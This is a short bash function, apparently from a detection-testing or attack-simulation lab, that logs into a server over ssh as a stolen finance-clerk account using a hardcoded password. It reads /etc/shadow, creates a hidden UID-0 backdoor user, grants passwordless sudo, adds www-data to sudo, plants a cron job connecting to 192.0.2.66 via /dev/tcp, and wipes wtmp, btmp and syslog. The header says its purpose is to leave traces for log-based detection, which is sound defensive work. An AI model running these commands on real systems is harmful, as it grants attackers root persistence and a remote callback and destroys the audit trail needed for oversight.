# A finance clerk's stolen account, used from that clerk's own PC over ssh: only the server's own log can show what it did.
# shellcheck shell=bash

attack_sudo_abuse() {
  # shellcheck disable=SC2086
  on pc-stc timeout 60 sshpass -p 'Kt-2026-stc' ssh -b 10.10.33.14 $ssh_quiet ketoan@10.10.20.60 'bash -s' <<'TYPED'
id; sudo -n -l
for guess in a b; do echo "$guess" | su root -c id; sleep 1; done
printf 'sai1\nsai2\nsai3\n' | sudo -S -p '' id
become() { echo 'Kt-2026-stc' | sudo -S -p '' "$@"; }
become cat /etc/shadow >/dev/null
become useradd -o -u 0 -g 0 -M -d /root -s /bin/bash hotro
become usermod -aG sudo www-data
become bash -c 'echo "hotro ALL=(ALL) NOPASSWD:ALL" >/etc/sudoers.d/90-hotro'
become bash -c 'echo "*/5 * * * * root /bin/bash -c \"exec 3<>/dev/tcp/192.0.2.66/9001\" 2>/dev/null" >/etc/cron.d/dong-bo'
become rm -f /var/log/wtmp /var/log/btmp
become truncate -s 0 /var/log/syslog
TYPED
}
